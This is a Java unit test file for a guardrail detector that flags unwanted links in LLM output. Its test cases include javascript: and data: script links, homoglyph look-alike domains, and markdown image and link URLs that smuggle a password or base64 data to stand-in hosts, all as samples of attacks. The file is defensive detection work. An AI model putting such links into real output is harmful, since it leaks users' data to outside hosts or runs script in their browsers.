package org.llmops.guardrail.rules;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.llmops.guardrail.detecting.LocalDetector;
import org.llmops.guardrail.detecting.Pieces;
import org.llmops.platform.problem.FieldError;

class UrlsTypeTest {
    private static final LocalDetector DETECTOR =
            Given.detector(new UrlsType(), "{\"deny\": [\"evil.example\", \"*.münchen.example\"]}");

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            See https://sub.evil.example/x.  | host-denied
            See HTTPS://EVIL.example:443     | host-denied
            See https://%65vil.example/      | host-denied
            ask evil.example, they know      | host-denied
            ask münchen.example, they know   | host-denied
            ask xn--mnchen-3ya.example now   | host-denied
            https://www.xn--mnchen-3ya.example/ | host-denied
            https://good.example@203.0.113.9/   | user-in-link
            http://192.0.2.1/login           | address-host
            http://3232235777/               | address-host
            http://[2001:db8::1]/            | address-host
            http://0xc0.0x00.0x02.0x01/      | address-host
            https://аррӏе.com/login          | look-alike-host
            https://xn--pple-43d.com/        | look-alike-host
            [click](javascript:alert(1))     | script-link
            <a href=data:text/html;base64,PHNjcmlwdD4=>  | script-link
            ![x](https://img.example/p.png?d=c2VjcmV0IGRhdGE) | image-exfiltration
            <img alt="" src="//t.example/a?q=the+user+said+hello"> | image-exfiltration
            [more](https://t.example/?q=the%20password%20of%20the%20user%20is%20rosebud%20indeed) | link-exfiltration
            """)
    void findsLinksThatAreNotWanted(String text, String rule) {
        assertThat(Pieces.matches(DETECTOR, text))
                .anyMatch(match -> match.rule().equals(rule));
        Pieces.expectSameHoweverCut(DETECTOR, text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "See https://docs.example.com/guide/intro?lang=en#install for more.",
                "![logo](https://cdn.example.com/logo.png?w=640&h=480&auto=format)",
                "https://notevil.example/ and evil.example.com and devil.example",
                "https://müller.example/ and https://пример.рф/",
                "Mail me@evil.example2 or see data: 5, javascript: the good parts",
            })
    void leavesOtherLinksAlone(String text) {
        assertThat(Given.found(DETECTOR, text)).isEmpty();
    }

    @Test
    void findsWhatIsNotAllowedIfSomethingIs() {
        LocalDetector allowing = Given.detector(new UrlsType(), "{\"allow\": [\"example.com\"]}");
        assertThat(Given.found(allowing, "https://a.example.com/x?d=abcdefghijklmnop (www.example.org/x), //x"))
                .containsExactly("host-not-allowed:www.example.org/x");
    }

    @Test
    void reportsEveryLinkIfAsked() {
        LocalDetector all = Given.detector(new UrlsType(), "{\"all\": true}");
        assertThat(Given.found(all, "To https://example.com/a. Then")).containsExactly("link:https://example.com/a");
    }

    @Test
    void namesWhatIsNoHost() {
        assertThat(Given.faults(new UrlsType(), "{\"deny\": [\"https://x.example/\"]}"))
                .containsExactly(new FieldError(
                        "parameters.deny", "Names of hosts such as example.com, without scheme, port or path"));
    }
}
